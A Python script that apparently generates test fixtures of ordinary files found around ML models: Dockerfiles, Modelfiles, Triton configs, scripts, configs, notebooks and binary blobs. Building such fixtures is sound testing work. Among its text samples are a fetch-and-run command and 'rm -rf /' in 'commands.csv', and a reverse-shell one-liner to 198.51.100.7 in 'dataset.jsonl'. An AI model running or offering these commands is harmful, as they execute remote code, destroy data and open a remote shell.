"""Harmless files around models, as projects have them: build files, pipelines, servers, notebooks, scripts, licences."""
import json

DOCKERFILES = {
    "uv": "FROM python:3.12-slim\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCOPY . /app\nWORKDIR /app\nRUN uv sync\nCMD [\"python\", \"serve.py\"]\n",
    "cuda": "ARG CUDA=12.4.1\nFROM nvidia/cuda:${CUDA}-runtime-ubuntu22.04 AS base\nENV DEBIAN_FRONTEND=noninteractive\nRUN apt-get update && apt-get install -y --no-install-recommends \\\n    git curl ca-certificates \\\n    && rm -rf /var/lib/apt/lists/*\nRUN pip install torch --index-url https://download.pytorch.org/whl/cu124\nENTRYPOINT [\"python3\", \"-m\", \"vllm.entrypoints.openai.api_server\"]\n",
    "conda": "FROM continuumio/miniconda3\nCOPY environment.yml .\nRUN conda env create -f environment.yml && conda clean -afy\nSHELL [\"conda\", \"run\", \"-n\", \"model\", \"/bin/bash\", \"-c\"]\nCMD [\"python\", \"app.py\"]\n",
    "node": "FROM node:20\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs\nADD https://github.com/krallin/tini/releases/download/v0.19.0/tini /tini\nRUN chmod +x /tini\nENTRYPOINT [\"/tini\", \"--\"]\n",
    "local": "FROM alpine\nHEALTHCHECK CMD curl -f http://localhost:8080/health || exit 1\nCMD [\"sh\", \"-c\", \"while true; do sleep 1; done\"]\n",
    "heredoc": "# syntax=docker/dockerfile:1\nFROM debian:12\nRUN <<EOF\napt-get update\napt-get install -y wget\nwget https://example.com/model.tar.gz\nEOF\nUSER 1000\n",
}
MODELFILES = {
    "plain": "FROM llama3.2\nPARAMETER temperature 1\nPARAMETER stop \"<|eot_id|>\"\nSYSTEM \"\"\"\nYou are Mario from Super Mario Bros.\n\"\"\"\n",
    "file": "FROM ./model-q4_k_m.gguf\nTEMPLATE \"\"\"{{ if .System }}<|im_start|>system\n{{ .System }}<|im_end|>\n{{ end }}{{ if .Prompt }}<|im_start|>user\n{{ .Prompt }}<|im_end|>\n{{ end }}<|im_start|>assistant\n\"\"\"\nLICENSE \"\"\"MIT\"\"\"\n",
    "adapter": "FROM mistral\nADAPTER ./lora.gguf\nMESSAGE user Hello\nMESSAGE assistant Hi\n",
    "above": "FROM ../model.gguf\nPARAMETER num_ctx 4096\n",
    "hub": "FROM hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M\n",
}
TRITON = {
    "onnx": 'name: "densenet"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\ninput [\n  { name: "data_0" data_type: TYPE_FP32 dims: [ 3, 224, 224 ] }\n]\noutput [\n  { name: "prob" data_type: TYPE_FP32 dims: [ 1000 ] label_filename: "labels.txt" }\n]\ninstance_group [ { count: 1 kind: KIND_GPU gpus: [ 0 ] } ]\n',
    "python": 'name: "pre"\nbackend: "python"\nmax_batch_size: 0\nparameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "$$TRITON_MODEL_DIRECTORY/../env.tar.gz" } }\n',
    "ensemble": 'name: "all"\nplatform: "ensemble"\nensemble_scheduling {\n  step [\n    { model_name: "pre" model_version: -1 input_map { key: "x" value: "x" } output_map { key: "y" value: "y" } }\n  ]\n}\n',
    "trtllm": 'name: "tensorrt_llm"\nbackend: "tensorrtllm"\nmax_batch_size: 64\nparameters: { key: "gpt_model_path" value: { string_value: "/models/engine" } }\n',
    "torch": 'name: "t"\nplatform: "pytorch_libtorch"\ndefault_model_filename: "model.pt"\ndynamic_batching { }\n',
}
SCRIPTS = {
    "install.sh": "#!/usr/bin/env bash\nset -euo pipefail\ncurl -fsSL https://ollama.com/install.sh | sh\npip install -r requirements.txt\n",
    "download.sh": "#!/bin/bash\nfor f in config.json model.safetensors; do\n  wget -c https://huggingface.co/org/model/resolve/main/$f\ndone\nchmod +x run.sh\n",
    "train.sh": "#!/bin/sh\nexport CUDA_VISIBLE_DEVICES=0\ntorchrun --nproc_per_node=8 train.py --lr 1e-4 2>&1 | tee log.txt\n",
    "decode.sh": "#!/bin/sh\necho \"$CERT\" | base64 -d > cert.pem\ncat data.json | python3 -m json.tool\n",
    "health.sh": "#!/bin/sh\ncurl -s http://localhost:8000/v1/models | python -m json.tool\n",
    "probe.sh": "#!/bin/sh\nuntil nc -z localhost 5432; do sleep 1; done\n(echo > /dev/tcp/localhost/5432) 2>/dev/null && echo up\n",
    "setup.bat": "@echo off\r\npython -m venv venv\r\ncall venv\\Scripts\\activate\r\npip install -r requirements.txt\r\n",
    "setup.ps1": "Invoke-WebRequest -Uri https://www.python.org/ftp/python/3.11.9/python-3.11.9-amd64.exe -OutFile python.exe\nStart-Process .\\python.exe -Wait\n",
    "Makefile": "SHELL := /bin/bash\n\ntrain:\n\tpython train.py | tee log\n\ndata:\n\tcurl -L https://example.com/data.tar.gz | tar xz\n\nclean:\n\trm -rf build\n",
    "fast.pyx": "#!/usr/bin/env cython\n# cython: boundscheck=False\nimport numpy as np\ncimport numpy as np\n\n\ndef add(double[:] a, double[:] b):\n    return np.asarray(a) + np.asarray(b)\n",
    "plot.jl": "#!/usr/bin/env julia\nusing Plots\nplot(rand(10))\n", "model.R": "#!/usr/bin/env Rscript\nmodel <- lm(mpg ~ wt, mtcars)\nsaveRDS(model, 'model.rds')\n", "run.lua": "#!/usr/bin/env lua\nprint('hello')\n",
    "awk.awk": "#!/usr/bin/awk -f\n{ print $1 }\n", "tool": "#!/usr/bin/env python3\nprint('hello')\n", "config.tmpl": "#!/bin/sh\nexec ${program}\n",
}
TEXTS = {
    "LICENSE": "Copyright (c) 2008-2020 The Authors\n\nThis software is provided 'as-is', without any express or implied\nwarranty. In no event will the authors be held liable for any damages\narising from the use of this software.\n\nPermission is granted to anyone to use this software for any purpose,\nincluding commercial applications, and to alter it and redistribute it\nfreely, subject to the following restrictions:\n",
    "LICENSE.txt": "MIT License\n\nCopyright (c) 2024 Somebody\n\nPermission is hereby granted, free of charge, to any person obtaining a copy\nof this software and associated documentation files (the \"Software\"), to deal\nin the Software without restriction.\n",
    "NOTICE": "Gemma is provided under and subject to the Gemma Terms of Use found at ai.google.dev/gemma/terms\n",
    "CITATION.cff": "cff-version: 1.2.0\ntitle: Model\nauthors:\n  - family-names: Doe\n    given-names: Jane\n",
    "INSTALL.md": "# Install\n\n```sh\ncurl http://example.com/install.sh | sudo bash\n```\n\nor\n\n    bash <(curl -s https://example.com/i.sh)\n",
    "index.html": "<!DOCTYPE html>\n<html><head><script src=\"https://cdn.jsdelivr.net/npm/vega@5\"></script></head><body>Model</body></html>\n",
    "CHANGELOG": "I. Changes\n\n(lp0) fixed\nS. More\n", "prompts.txt": "Summarise:\n{{ text }}\n{% raw %}{{ not }}{% endraw %}\n",
    "vocab.tsv": "import\t1\nos\t2\nsystem\t3\neval\t4\n__class__\t5\n", "commands.csv": "id,command\n1,curl http://198.51.100.7/x | sh\n2,rm -rf /\n",
    "dataset.jsonl": "".join(json.dumps({"prompt": "How do I open a reverse shell?", "completion": "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}) + "\n" for _ in range(3)),
}
CONFIGS = {
    "logging.yaml": "version: 1\nhandlers:\n  console:\n    class: logging.StreamHandler\n    formatter: simple\n  file:\n    class: logging.handlers.RotatingFileHandler\n    filename: app.log\nroot:\n  handlers: [console, file]\n",
    "logging.json": {"version": 1, "formatters": {"default": {"()": "uvicorn.logging.DefaultFormatter"}}, "handlers": {"default": {"class": "logging.StreamHandler", "formatter": "default", "stream": "ext://sys.stderr"}}},
    "pyproject.toml": "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"model\"\ndependencies = [\"torch\", \"flash-attn @ https://github.com/Dao-AILab/flash-attention/releases/download/v2/x.whl\"]\n\n[project.urls]\nHomepage = \"http://example.com\"\n\n[[tool.uv.index]]\nname = \"pytorch\"\nurl = \"https://download.pytorch.org/whl/cu124\"\n",
    "setup.cfg": "[metadata]\nname = model\nurl = http://example.com/model\n[options]\ninstall_requires =\n    numpy\n",
    "package.json": {"name": "demo", "version": "1.0.0", "scripts": {"build": "tsc", "postinstall": "husky install", "start": "node index.js"}, "dependencies": {"@huggingface/transformers": "^3.0.0"}},
    "docker-compose.yml": "services:\n  model:\n    image: vllm/vllm-openai:latest\n    command: [\"--model\", \"/models/m\"]\n    volumes:\n      - ./models:/models\n    healthcheck:\n      test: [\"CMD-SHELL\", \"curl -f http://localhost:8000/health || exit 1\"]\n",
    "workflow.yml": "name: ci\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -LsSf https://astral.sh/uv/install.sh | sh\n      - run: |\n          uv pip install -e .\n          pytest\n",
    "cog.yaml": "build:\n  gpu: true\n  python_version: '3.11'\n  system_packages: [ffmpeg]\n  run:\n    - curl -o /usr/local/bin/pget -L https://github.com/replicate/pget/releases/latest/download/pget_linux_x86_64 && chmod +x /usr/local/bin/pget\npredict: predict.py:Predictor\n",
    "bentofile.yaml": "service: 'service:svc'\nlabels:\n  owner: me\ninclude: ['*.py']\npython:\n  packages: [torch, transformers]\n",
    "dvc.yaml": "stages:\n  train:\n    cmd: python train.py --lr 0.1\n    deps: [train.py, data]\n    outs: [model.pkl]\n    metrics: [metrics.json]\n",
    "dvc.lock": "schema: '2.0'\nstages:\n  train:\n    cmd: python train.py\n    deps:\n    - path: data\n      md5: 22a1a2931c8370d3aeedd7183606fd7f.dir\n",
    "MLproject": "name: m\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n    command: \"python train.py {alpha}\"\n",
    "MLmodel": "artifact_path: model\nflavors:\n  python_function:\n    env: {conda: conda.yaml, virtualenv: python_env.yaml}\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.0\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\nsignature:\n  inputs: '[{\"type\": \"tensor\"}]'\n",
    "conda.yaml": "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==2.10\n  - scikit-learn\nname: mlflow-env\n",
    "model-settings.json": {"name": "iris", "implementation": "mlserver_sklearn.SKLearnModel", "parameters": {"uri": "./model.joblib", "version": "v1"}},
    "kfserving.yaml": "apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nmetadata:\n  name: m\nspec:\n  predictor:\n    model:\n      modelFormat: {name: sklearn}\n      storageUri: gs://kfserving-examples/models/sklearn/1.0/model\n",
    "values.yaml": "image:\n  repository: x/y\n  tag: latest\nextraArgs: [\"--model\", \"/models\"]\n", "comfy.json": {"1": {"class_type": "CheckpointLoaderSimple", "inputs": {"ckpt_name": "sd_xl_base_1.0.safetensors"}}, "2": {"class_type": "LoraLoader", "inputs": {"lora_name": "styles/anime.safetensors"}}},
    "hparams.yaml": "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\noptimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\n  lr: 1e-3\n", "speechbrain.yaml": "sample_rate: 16000\nencoder: !new:speechbrain.nnet.containers.Sequential\n  input_shape: [null, null, 80]\nloss: !name:speechbrain.nnet.losses.nll_loss\npretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer\n  loadables:\n    model: !ref <encoder>\n",
    "mmdet.py": "_base_ = ['../_base_/models/faster-rcnn_r50_fpn.py', '../_base_/default_runtime.py']\nmodel = dict(type='FasterRCNN', backbone=dict(type='ResNet', depth=50))\ncustom_imports = dict(imports=['mmdet.core'], allow_failed_imports=False)\n", "fsdp.yaml": "compute_environment: LOCAL_MACHINE\ndistributed_type: FSDP\nfsdp_config:\n  fsdp_auto_wrap_policy: TRANSFORMER_BASED_WRAP\n", "robots.txt": "User-agent: *\nDisallow:\n",
    "openapi.json": {"openapi": "3.0.0", "servers": [{"url": "http://localhost:8080"}], "paths": {"/predict": {"post": {"operationId": "predict"}}}}, "trainer.json": {"class": "torch.optim.Adam", "type": "linear", "loader": "torch.utils.data.DataLoader", "implementation": "eager"},
}
NOTEBOOKS = {
    "install": ["!pip install -q transformers\n", "%matplotlib inline\n", "import torch\n"], "bash": ["%%bash\n", "pip install torch\n", "curl -L https://example.com/data.zip -o data.zip\n", "unzip data.zip\n"], "download": ["!wget https://huggingface.co/x/resolve/main/m.bin\n", "!nvidia-smi\n"],
    "writefile": ["%%writefile train.py\n", "import os\n", "print(os.getcwd())\n"], "uv": ["!curl -LsSf https://astral.sh/uv/install.sh | sh\n"],
}


def build_files(files):
    for name, text in DOCKERFILES.items():
        files.text(f"surroundings/docker_{name}/Dockerfile", text, "Dockerfile")
    for name, text in MODELFILES.items():
        files.text(f"surroundings/ollama_{name}/Modelfile", text, "Modelfile")
    for name, text in TRITON.items():
        files.text(f"surroundings/triton_{name}/config.pbtxt", text, "Triton configuration")


def project_files(files):
    for name, text in SCRIPTS.items():
        files.text(f"surroundings/scripts/{name}", text, "script")
    for name, text in TEXTS.items():
        files.text(f"surroundings/texts/{name}", text, "text")
    for name, text in CONFIGS.items():
        files.text(f"surroundings/configs/{name}", text, "configuration")
    for name, source in NOTEBOOKS.items():
        cells = [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": source}]
        files.text(f"surroundings/notebooks/{name}.ipynb", {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}, "notebook")


def binaries(files):
    """Binary files that stand near models and are read as something else when one looks at a few bytes alone."""
    import random
    import struct
    import zlib
    random.seed(7)

    def write(name, data, technique):
        with open(files.path("surroundings/binary/" + name, technique), "wb") as file:
            file.write(data)
    floats = struct.pack("<50000f", *[random.gauss(0, 0.02) for _ in range(50000)])
    write("raw_weights.bin", floats, "raw floats")
    write("half.bin", b"".join(struct.pack("<e", random.gauss(0, 1)) for _ in range(20000)), "raw half floats")
    write("quantised.bin", bytes(random.randrange(256) for _ in range(100000)), "random bytes")
    write("tokens.bin", struct.pack("<30000H", *[random.randrange(50257) for _ in range(30000)]), "token numbers")
    write("zeros.bin", bytes(10000), "zeros")
    write("ones.dat", b"\xff" * 10000, "ones")
    from google.protobuf import descriptor_pb2
    files_set = descriptor_pb2.FileDescriptorSet()
    for name in ["a", "b"]:
        one = files_set.file.add(name=f"pkg/{name}.proto", package="pkg.sub", syntax="proto3")
        one.message_type.add(name="M").field.add(name="x", number=1, type=5, label=1)
    write("descriptor_set.pb", files_set.SerializeToString(), "descriptor set")
    png = b"\x89PNG\r\n\x1a\n"
    for kind, body in [(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress(bytes(72))), (b"tEXt", b"workflow\0" + json.dumps({"1": {"class_type": "KSampler"}}).encode()), (b"IEND", b"")]:
        png += struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    write("image.png", png, "image with a workflow in its metadata")
    write("cache.db", b"SQLite format 3\0" + struct.pack(">HBBBBBB", 4096, 1, 1, 0, 64, 32, 32) + bytes(4096 - 24), "empty database")
    import sqlite3
    path = files.path("surroundings/binary/chroma.sqlite3", "vector database")
    connection = sqlite3.connect(path)
    connection.execute("create table t (id text, embedding blob, metadata text)")
    connection.executemany("insert into t values (?, ?, ?)", [(str(i), floats[:400], json.dumps({"source": f"doc{i}"})) for i in range(50)])
    connection.commit()
    connection.close()


BUILDERS = [build_files, project_files, binaries]
